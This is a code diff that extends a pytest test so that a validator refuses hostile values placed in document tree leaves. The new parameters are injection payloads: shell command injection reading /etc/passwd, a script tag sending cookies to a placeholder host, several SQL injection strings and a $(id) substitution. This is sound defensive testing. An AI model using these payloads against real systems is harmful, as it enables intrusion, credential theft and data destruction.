@@ -130,9 +130,19 @@ def test_leaves_of_documents_are_shown(standard: Logic, advanced: Logic, name: b
 
 @pytest.mark.parametrize("name", _TREES)
 @pytest.mark.parametrize(
-    "text", [b"; cat /etc/passwd", b"<script>new Image().src='//a.example/'+document.cookie</script>"]
+    "text",
+    [
+        b"; cat /etc/passwd",
+        b"<script>new Image().src='//a.example/'+document.cookie</script>",
+        b"'; drop table users; --",
+        b"a' or 1=1--",
+        b"1 union select password from users",
+        b"$(id)",
+    ],
 )
-def test_what_reaches_out_is_refused_in_leaves_too(standard: Logic, name: bytes, text: bytes) -> None:
+def test_what_reaches_out_or_goes_on_from_a_value_is_refused_in_leaves_too(
+    standard: Logic, name: bytes, text: bytes
+) -> None:
     assert standard.judge([Value("body", name, text)])
 
 
